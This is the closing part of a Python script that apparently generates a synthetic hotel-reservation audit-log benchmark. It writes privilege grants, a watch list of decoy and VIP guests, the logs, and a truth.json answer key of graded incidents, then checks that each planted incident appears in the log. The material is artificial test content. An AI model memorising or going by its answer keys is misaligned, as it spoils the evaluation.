        "Reservations": crs + " crs-list",
        "Marketing": "customer customer-list",
        "Sales": "customer customer-list",
        "Accounting": "folio customer",
        "IT": "office-admin",
        "Agency": "agency-booking agency-bookings voucher agency-export",
        "Internal audit": "crs-guest crs-booking",
    }
    rows = [["", dept, x, "", a, b] for dept, names in grants.items() for x in names.split()]
    for p in w.people:
        if p.exports:
            rows.append(
                [
                    p.uid if p.role == "resv" else win(w, p),
                    "",
                    {"mkt": "mailing-export", "acct": "ledger-export", "resv": "crs-export"}[
                        p.role
                    ],
                    "",
                    a,
                    b,
                ]
            )
        if p.moves:
            rows += [
                [p.uid, "", x, "", w.date(p.moves[0]).isoformat(), b]
                for x in (crs + " crs-list").split()
            ]
    write_csv(
        os.path.join(folder, "privileges.csv"),
        ["user", "department", "resource", "level", "from", "to"],
        rows,
    )
    rows = [[g, "decoy", "", "made-up guest"] for g in w.decoys] + [
        [g, "vip", "", "well-known guest"] for g in w.vips
    ]
    rows.append([w.relative.gid, "relation", w.relation_user.uid, "relative of the clerk"])
    write_csv(os.path.join(folder, "watch.csv"), ["subject", "kind", "user", "reason"], rows)


def check(w, t):
    """Complains when truth and log disagree."""
    bad = []
    tags = {m[0]: m[1] for m in w.meta}
    everything = set()
    for rows in w.events.values():
        for e in rows:
            everything.update((e[1], e[2], e[3]))
    sites = set(w.events)
    for row in t["incidents"] + t["annoyances"]:
        s = w.stats.get(tags[row["id"]])
        if row["family"] != "silence" and not row["lines"]:
            bad.append("%s has no lines" % row["id"])
        own = set()
        if s:
            own = set(s["users"]) | set(s["ips"]) | set(s["sess"]) | set(s["sites"])
        for a in row["actors"]:
            if s and a not in own or not s and a not in sites:
                bad.append("%s: actor %s has no line of it" % (row["id"], a))
            if a not in everything and a not in sites:
                bad.append("%s: actor %s is not in the log" % (row["id"], a))
        if "grade" in row:
            first, last = date.fromisoformat(row["first_day"]), date.fromisoformat(row["last_day"])
            if first < w.dates[14] and last <= w.dates[20]:
                bad.append("%s lies in the quiet past" % row["id"])
    got = {m[1] for m in w.meta} - {tags[r["id"]] for r in t["incidents"] + t["annoyances"]}
    bad.extend("%s left no trace" % x for x in sorted(got))
    return bad


def main():
    a = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    a.add_argument("--seed", type=int, required=True)
    a.add_argument("--days", type=int, default=35, choices=[35, 63])
    a.add_argument("--out", required=True)
    a.add_argument(
        "--json-format",
        choices=sorted(JSON_FORMATS),
        default="prefix",
        help="how the settings spell the JSON format",
    )
    o = a.parse_args()
    w = World(o.seed, o.days)
    life(w)
    stories(w)
    settle(w)
    t = truth(w)
    os.makedirs(o.out, exist_ok=True)
    total = write_logs(w, o.out)
    write_settings(w, o.out, o.json_format)
    write_context(w, o.out)
    with open(os.path.join(o.out, "truth.json"), "w", encoding="utf-8", newline="") as f:
        json.dump(t, f, ensure_ascii=False, indent=1)
        f.write("\n")
    bad = check(w, t)
    for line in bad:
        print("check:", line, file=sys.stderr)
    grades = [i["grade"] for i in t["incidents"]]
    print(
        "%d lines, %d incidents (%s), %d annoyances"
        % (
            total,
            len(grades),
            ", ".join("%d %s" % (grades.count(g), g) for g in ("easy", "medium", "hard")),
            len(t["annoyances"]),
        )
    )
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
